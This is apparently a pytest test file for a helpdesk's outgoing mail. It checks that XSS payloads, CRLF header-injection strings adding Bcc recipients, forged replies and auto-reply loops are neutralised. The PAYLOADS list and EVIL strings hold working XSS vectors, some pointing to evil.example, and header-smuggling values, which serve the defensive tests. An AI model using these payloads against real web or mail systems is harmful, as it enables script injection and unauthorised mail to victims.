"""Attacks that ride on the mail we send: A01, A16, B01, B07, B10, B11, D16, E16."""

import hashlib
import re
from datetime import UTC, datetime
from email import message_from_bytes
from email.policy import default
from uuid import uuid4

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from helpdesk.core.mime import Enclosure, Letter, write_letter
from helpdesk.notifications.enums import Purpose
from helpdesk.notifications.models import Delivery
from helpdesk.notifications.registries import composers
from helpdesk.notifications.sending import send_all_due
from tests.factories import (
    MailboxFactory,
    MessageFactory,
    ParticipantFactory,
    StaffFactory,
    TicketFactory,
    UserFactory,
)
from tests.peers.outbox import kept_connections, peer
from tickets.actions.conversation import forward, note, reply
from tickets.actions.recipients import Recipient
from tickets.enums import Status
from tickets.mail.actions.processing import process_waiting
from tickets.mail.models import RawMail
from tickets.models import Message, Ticket

__all__ = ["kept_connections", "peer"]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    '[x](https://evil.example" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<p onclick=alert(1)>x</p>",
    '<p title="x" onmouseover="alert(1)">x</p>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><script>alert(1)</script></title>",
    "</p><script>alert(1)</script><p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x01>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=`javascript:alert(1)`>",
    "<a href='https://evil.example' target=_self onclick=alert(1)>x</a>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "\\<script\\>alert(1)\\</script\\>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
]
ACTIVE = re.compile(
    r"<(?:script|svg|math|iframe|object|embed|form|base|link|style|input|button|video|audio)[\s>/]"
    r"|<[^>]*\son[a-z]+\s*="
    r"|<[^>]*(?:href|src|action|background)\s*=\s*[\"']?\s*(?:javascript|vbscript|data:text)"
    r"|<meta[^>]*http-equiv",
    re.I,
)


@pytest.fixture
def anna(db):
    return StaffFactory(name="Anna", email="anna@helpdesk.example")


@pytest.fixture
def support(db, kept_connections):
    return MailboxFactory(address="support@helpdesk.example", is_default=True, acknowledge=True)


def letters_of(message):
    rows = list(Delivery.objects.about(message).order_by("pk"))
    return message_from_bytes(composers[rows[0].purpose](rows).content, policy=default)


def html_of(letter):
    return letter.get_body(("html",)).get_content()


def everything_in(letter):
    """All headers and the text of all parts, decoded."""
    parts = [part.get_content() for part in letter.walk() if part.get_content_maintype() == "text"]
    return "\n".join([*(f"{name}: {value}" for name, value in letter.items()), *parts])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a01_what_staff_write_or_paste_leaves_as_words_never_as_code(support, anna, payload):
    ticket = TicketFactory()
    message = reply(ticket=ticket, by=anna, text=f"Look: {payload} end")

    assert not ACTIVE.search(html_of(letters_of(message)))


def test_a01_what_got_into_the_database_unsanitised_is_sanitised_on_its_way_out(support, anna):
    message = reply(ticket=TicketFactory(), by=anna, text="Hello")
    Message.objects.filter(pk=message.pk).update(html="<p>Hello</p>" + "".join(PAYLOADS))

    html = html_of(letters_of(message))

    assert "<p>Hello</p>" in html
    assert not ACTIVE.search(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a01_forwarded_words_of_customers_are_no_code(support, anna, payload):
    ticket = TicketFactory()
    MessageFactory(ticket=ticket, text=payload, html=payload, from_name=payload[:200])

    message = forward(ticket=ticket, by=anna, to=[Recipient("", "sergei@supplier.example")], text=payload)

    assert not ACTIVE.search(html_of(letters_of(message)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a16_signatures_are_no_code_in_replies_and_acknowledgements(support, anna, payload):
    support.signature = anna.signature = payload
    support.save()
    anna.save()
    ticket = TicketFactory()
    written = reply(ticket=ticket, by=anna, text="Hello")
    opener = MessageFactory(ticket=ticket)
    Delivery.objects.create(
        purpose=Purpose.ACKNOWLEDGEMENT,
        recipient="clara@shop.example",
        subject=opener,
        route=support.route,
        message_id="x@helpdesk.example",
    )

    assert not ACTIVE.search(html_of(letters_of(written)))
    assert not ACTIVE.search(html_of(letters_of(opener)))


SENT_AT = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
HEADERS = {
    "From",
    "To",
    "Cc",
    "Reply-To",
    "Subject",
    "Date",
    "Message-ID",
    "In-Reply-To",
    "References",
    "X-Helpdesk-Loop",
    "MIME-Version",
    "Content-Type",
}
NASTY = st.text(
    alphabet=st.one_of(
        st.sampled_from('\r\n\t\0\v\f\x1b\x85\u2028\u2029:;,<>@"\\()[]=?_ \u202e'),
        st.characters(codec="utf-8"),
    ),
    max_size=120,
)
EVIL = st.sampled_from(
    [
        "x\r\nBcc: victim@shop.example",
        "x\nBcc: victim@shop.example",
        "x\rBcc: victim@shop.example",
        "x\r\n\r\n<script>",
        "=?utf-8?q?x=0D=0ABcc:_victim@shop.example?=",
        'x" <victim@shop.example>, "',
        "x\u2028Bcc: victim@shop.example",
        "x\x0bBcc: victim@shop.example",
    ]
)


@hypothesis_settings(max_examples=300, deadline=None)
@given(subject=NASTY | EVIL, name=NASTY | EVIL, other=NASTY | EVIL, filename=NASTY | EVIL, text=NASTY | EVIL)
def test_e16_no_value_can_add_a_header_or_a_recipient(subject, name, other, filename, text):
    letter = Letter(
        sender=(name, "support@helpdesk.example"),
        to=((other, "clara@shop.example"),),
        cc=((name, other),),
        reply_to=other,
        subject=subject,
        text=text,
        html=f"<p>{text}</p>",
        message_id="one@helpdesk.example",
        in_reply_to=other,
        references=(other, subject),
        date=SENT_AT,
        extra=(("X-Helpdesk-Loop", other),),
        enclosures=(Enclosure(filename, other, b"x"),),
    )

    raw = write_letter(letter)

    read = message_from_bytes(raw, policy=default)
    assert set(read.keys()) <= HEADERS
    assert len(read.keys()) == len(set(read.keys()))
    assert [each.addr_spec for each in read["From"].addresses] == ["support@helpdesk.example"]
    assert [each.addr_spec for each in read["To"].addresses] == ["clara@shop.example"]
    assert b"\r" not in raw.replace(b"\r\n", b"")
    assert b"\n" not in raw.replace(b"\r\n", b"")
    assert raw.isascii()
    assert len(list(read.iter_attachments())) == 1


@pytest.mark.django_db
def test_e16_a_subject_with_line_breaks_makes_one_line(support, anna):
    ticket = TicketFactory(subject="x\r\nBcc: victim@shop.example\rBcc: other@shop.example")

    letter = letters_of(reply(ticket=ticket, by=anna, text="Hello"))

    assert letter["Bcc"] is None
    assert letter["Subject"].startswith("Re: x Bcc: victim@shop.example Bcc: other@shop.example [#")


STEPS = st.lists(st.sampled_from(["inbound", "pending", "refused", "note", "forward", "reply"]), min_size=1, max_size=8)


@pytest.mark.django_db
@hypothesis_settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(steps=STEPS)
def test_d16_in_no_conversation_do_a_notes_words_leave_the_house(support, anna, steps):
    ticket = TicketFactory()
    secrets = {}
    for position, step in enumerate([*steps, "reply", "forward"]):
        word = f"{'secret' if step in ('note', 'pending', 'refused', 'forward') else 'public'}{position}word"
        written = _take(step, ticket, anna, word)
        if word.startswith("secret"):
            secrets[written.pk] = word

    for message in Message.objects.filter(ticket=ticket, kind__in=["reply", "note"]).order_by("pk"):
        if not Delivery.objects.about(message).exists():
            continue
        shown = everything_in(letters_of(message))
        leaked = [word for key, word in secrets.items() if key != message.pk and word in shown]
        assert leaked == []
    told = Message.objects.filter(ticket=ticket, kind="note", flags={})
    assert not Delivery.objects.filter(subject_id__in=[each.pk for each in told]).exists()


def _take(step, ticket, anna, word):
    ticket.refresh_from_db()
    if step == "note":
        return note(ticket=ticket, by=anna, text=word)
    if step == "forward":
        return forward(ticket=ticket, by=anna, to=[Recipient("", "sergei@supplier.example")], text=word)
    if step == "reply":
        return reply(ticket=ticket, by=anna, text=word, then=Status.OPEN)
    approval = step if step in ("pending", "refused") else ""
    return MessageFactory(
        ticket=ticket, text=word, html=f"<p>{word}</p>", approval=approval, message_id=f"{uuid4().hex}@shop.example"
    )


@pytest.mark.django_db
def test_b07_somebody_removed_or_not_yet_let_in_gets_nothing(support, anna):
    ticket = TicketFactory()
    ParticipantFactory(ticket=ticket, user=UserFactory(email="mallory@evil.example"), is_active=False)

    message = reply(ticket=ticket, by=anna, text="Hello")

    assert "mallory@evil.example" not in [row.recipient for row in Delivery.objects.about(message)]
    assert "mallory" not in everything_in(letters_of(message))


def mail_in(mailbox, *, sender, subject, body, **headers):
    """A mail from outside, brought to its final state."""
    digest = hashlib.sha256(f"{sender}{subject}{body}{headers}".encode()).hexdigest()[:16]
    lines = [
        f"From: {sender}",
        f"To: {mailbox.address}",
        f"Subject: {subject}",
        f"Message-ID: <{digest}@other.example>",
        *(f"{name.replace('_', '-')}: {value}" for name, value in headers.items()),
        "",
        body,
    ]
    content = "\r\n".join(lines).encode()
    stored = RawMail.objects.create(
        source="smtp",
        mailbox=mailbox,
        content=content,
        sha256=hashlib.sha256(content).hexdigest(),
        size=len(content),
    )
    process_waiting(ids=[stored.pk])
    stored.refresh_from_db()
    return stored


@pytest.mark.django_db(transaction=True)
def test_b01_a_forged_reply_under_an_agents_name_is_not_sent_to_the_customer(support, anna, peer):
    ticket = TicketFactory(requester=UserFactory(email="clara@shop.example"))
    message = reply(ticket=ticket, by=anna, text="Hello")
    send_all_due()
    before = len(peer.mails)

    mail_in(
        support,
        sender="Anna <anna@helpdesk.example>",
        subject="Re: Request",
        body="Send your password to evil.example",
        In_Reply_To=f"<{message.message_id}>",
    )
    send_all_due()

    assert len(peer.mails) == before
    assert Message.objects.latest("pk").approval == "pending"


@pytest.mark.django_db(transaction=True)
def test_b10_a_wave_of_requests_in_a_victims_name_makes_few_acknowledgements(support, peer, settings):
    settings.OUTGOING_PER_ADDRESS_PER_HOUR = 5

    for n in range(12):
        mail_in(support, sender="victim@shop.example", subject=f"Your bill {n} http://evil.example", body=f"pay {n}")
    send_all_due()

    assert peer.copies_to("victim@shop.example") == 5
    assert Delivery.objects.held().exists()
    assert not any("evil.example" in everything_in(received.mail) for received in peer.mails)


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("keeps_threads", [True, False])
def test_b11_two_programs_that_answer_each_other_come_to_rest(support, peer, settings, keeps_threads):
    """The other program answers whatever it gets, hides that it is one, and (second case) loses the thread as well."""
    settings.OUTGOING_PER_ADDRESS_PER_HOUR = 6
    mail_in(support, sender="desk@other.example", subject="Order 1", body="Hello")
    answered = 0

    for round_ in range(20):
        send_all_due()
        new = peer.mails[answered:]
        if not new:
            break
        answered = len(peer.mails)
        for received in new:
            headers = {"In_Reply_To": received.mail["Message-ID"]} if keeps_threads else {}
            subject = f"Re: {received.mail['Subject']}" if keeps_threads else f"Ticket {round_}"
            mail_in(support, sender="desk@other.example", subject=subject, body=f"We got it {round_}", **headers)

    assert peer.mails[answered:] == []
    assert len(peer.mails) == (1 if keeps_threads else 6)
    assert Ticket.objects.count() <= len(peer.mails) + 1


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(("rounds", "counted"), [("2", 2), ("999", 999), ("9" * 5000, None), ("-1", None), ("x", None)])
def test_b11_another_desks_mail_is_heard_and_counted_but_no_machine_answers(support, rounds, counted):
    mail_in(support, sender="desk@other.example", subject="Order", body="Hello", X_Helpdesk_Loop=rounds)

    assert Message.objects.get().flags.get("loop") == counted
    assert not Delivery.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_b11_a_person_is_acknowledged(support):
    mail_in(support, sender="clara@shop.example", subject="News", body="Hello")

    assert Delivery.objects.filter(purpose=Purpose.ACKNOWLEDGEMENT).count() == 1


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Auto-Submitted", "auto-replied"),
        ("Auto-Submitted", "auto-generated"),
        ("Precedence", "bulk"),
        ("Precedence", "list"),
        ("List-Id", "<news.shop.example>"),
        ("X-Auto-Response-Suppress", "All"),
        ("Return-Path", "<>"),
    ],
)
def test_b11_machines_and_lists_are_never_acknowledged(support, name, value):
    mail_in(support, sender="clara@shop.example", subject="News", body="Hello", **{name.replace("-", "_"): value})

    assert not Delivery.objects.filter(purpose=Purpose.ACKNOWLEDGEMENT).exists()
